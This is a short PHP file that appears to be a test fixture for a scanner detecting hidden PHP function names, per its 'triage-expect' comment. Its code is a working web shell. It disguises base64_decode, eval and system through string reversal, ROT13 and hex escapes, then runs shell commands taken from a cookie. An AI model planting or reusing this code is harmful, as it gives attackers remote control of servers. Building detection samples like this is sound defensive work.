<?php
// triage-expect: triage_php_hidden_function_names
$d = strrev('edoced_46esab');
$e = str_rot13('riny');
$x = "\x73\x79\x73\x74\x65\x6d";
@$x($d($_COOKIE['z']));
